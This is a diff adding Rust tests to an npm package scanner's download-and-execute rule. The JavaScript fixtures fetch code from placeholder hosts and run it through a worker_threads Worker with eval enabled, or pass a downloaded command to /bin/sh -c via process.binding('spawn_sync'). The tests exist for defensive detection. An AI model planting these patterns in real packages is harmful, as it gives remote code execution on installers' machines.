@@ -385,6 +385,64 @@ fn builds_registry_tarball_url(text: &str) -> bool {
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan, severity};
 
+    /// Remote code run by a `worker_threads` worker with `eval: true`, in a promise chain and
+    /// in a class method; the benign look-alikes are a worker started from a file of the package
+    /// that receives the downloaded data as a message, and an inline worker whose code is a
+    /// constant.
+    #[test]
+    fn worker_eval_runs_downloaded_code() {
+        let js = "const { Worker } = require('worker_threads');\nmodule.exports = () => fetch('https://cdn.example.net/w.js').then((r) => r.text()).then((src) => {\n  return new Worker(src, { eval: true });\n});\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 3)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+        let js = "const wt = require('node:worker_threads');\nconst https = require('https');\nclass Pool {\n  start() {\n    https.get('https://cdn.example.net/job', (res) => {\n      let body = '';\n      res.on('data', (c) => (body += c));\n      res.on('end', () => new wt.Worker(body, { eval: 1 }));\n    });\n  }\n}\nmodule.exports = Pool;\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 8)]
+        );
+        let js = "const { Worker } = require('worker_threads');\nconst path = require('path');\nmodule.exports = async () => {\n  const data = await (await fetch('https://api.example.net/data')).text();\n  const w = new Worker(path.join(__dirname, 'worker.js'));\n  w.postMessage(data);\n  const inline = new Worker('require(\"worker_threads\").parentPort.postMessage(1)', { eval: true });\n  return [w, inline];\n};\n";
+        let s = scan(&[
+            ("package.json", PJ),
+            ("index.js", js),
+            ("worker.js", "module.exports = 1;\n"),
+        ]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// `process.binding('spawn_sync')`, the binding under `child_process`, spawning a command
+    /// received from the network; a read-only use of another binding is not a spawn.
+    #[test]
+    fn internal_spawn_binding_runs_downloaded_command() {
+        let js = "const https = require('https');\nconst b = process.binding('spawn_sync');\nhttps.get('https://cfg.example.net/c', (r) => {\n  let cmd = '';\n  r.on('data', (d) => (cmd += d));\n  r.on('end', () => b.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', cmd], stdio: [] }));\n});\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("index.js".to_string(), 6)]
+        );
+        assert_eq!(
+            severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
+        let js = "const https = require('https');\nconst fsb = process.binding('fs');\nhttps.get('https://cfg.example.net/c', (r) => {\n  let p = '';\n  r.on('data', (d) => (p += d));\n  r.on('end', () => fsb.internalModuleStat(p));\n});\n";
+        let s = scan(&[("package.json", PJ), ("index.js", js)]);
+        assert!(
+            hits(&s, "code/download-exec").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
     #[test]
     fn positive() {
         let s = scan(&[
